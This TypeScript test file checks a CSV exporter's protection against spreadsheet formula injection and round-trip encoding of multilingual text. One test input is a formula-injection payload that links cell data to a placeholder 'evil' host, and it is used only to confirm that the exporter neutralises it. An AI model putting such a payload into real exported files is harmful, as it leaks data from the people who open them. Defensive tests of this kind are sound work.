import type { JsonValue } from '@formflow/schema';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { CSV_BOM, exportCell, formatCsvRow, formatRecordsCsv } from './csv-export.js';
import { importCsv } from './import-csv.js';
import { CUSTOMER_FORM, allData, chunked, ctx, registry, target, tempStore } from './testing/import-fixtures.js';

describe('exportCell / formatCsvRow (I3)', () => {
  it('prefixes text that a spreadsheet would run as a formula, then quotes per RFC 4180', () => {
    expect(exportCell('=HYPERLINK("http://evil/?"&A1,"x")')).toBe('"\'=HYPERLINK(""http://evil/?""&A1,""x"")"');
    expect(exportCell('@SUM(1)')).toBe("'@SUM(1)");
    expect(exportCell('-5')).toBe("'-5");
    expect(exportCell('+1')).toBe("'+1");
    expect(exportCell('\tx')).toBe("'\tx");
    expect(exportCell('\r1')).toBe('"\'\r1"');
    expect(exportCell('\u00001')).toBe("'\u00001");
    expect(exportCell('a\nb')).toBe('"a\nb"');
    expect(exportCell('普通 😀')).toBe('普通 😀');
  });

  it('writes numbers as numbers (a negative number is not prefixed)', () => {
    expect(formatCsvRow(['-5', -5, null, 'a,b'])).toBe('\'-5,-5,,"a,b"\r\n');
  });
});

describe('formatRecordsCsv', () => {
  it('formats with each type, keeps -5 in a number field unprefixed and prefixes -5 in a text field', () => {
    const records = [{ data: { name: '=HYPERLINK("x")', note: '-5', score: -5, amount: -1200.5, vip: true } }];
    const csv = formatRecordsCsv(CUSTOMER_FORM, registry, records, ctx, {
      fieldIds: ['name', 'note', 'score', 'amount', 'vip'],
    });
    expect(csv.startsWith(CSV_BOM)).toBe(true);
    const [head, row] = csv.slice(1).split('\r\n');
    expect(head).toBe('客户名称,备注,评分,金额,是否VIP');
    expect(row).toMatch(/^"'=HYPERLINK\(""x""\)",'-5,-5,"-¥1,200.50",/);
  });

  describe('round trip through import', () => {
    let db: ReturnType<typeof tempStore>;
    beforeEach(() => {
      db = tempStore();
    });
    afterEach(() => db.close());

    it('Chinese, emoji, RTL, quotes and newlines survive export → import', async () => {
      const data: Record<string, JsonValue>[] = [
        { name: '华为技术 😀', note: 'مرحبا "引号", 逗号\n换行', score: -5, signed: '2025-03-01' },
        { name: 'Zoë', note: '多 emoji 👨‍👩‍👧', score: 1.5 },
      ];
      const csv = formatRecordsCsv(
        CUSTOMER_FORM,
        registry,
        data.map((d) => ({ data: d })),
        ctx,
        {
          fieldIds: ['name', 'note', 'score', 'signed'],
        },
      );
      const options = { ...target, form: CUSTOMER_FORM, registry, ctx, mode: 'allOrNothing' as const };
      const result = await importCsv(db.store, options, chunked(Buffer.from(csv, 'utf8'), 5));
      expect(result).toMatchObject({ imported: 2, failed: 0, encoding: 'utf-8' });
      expect(allData(db.store)).toEqual(data);
    });
  });
});
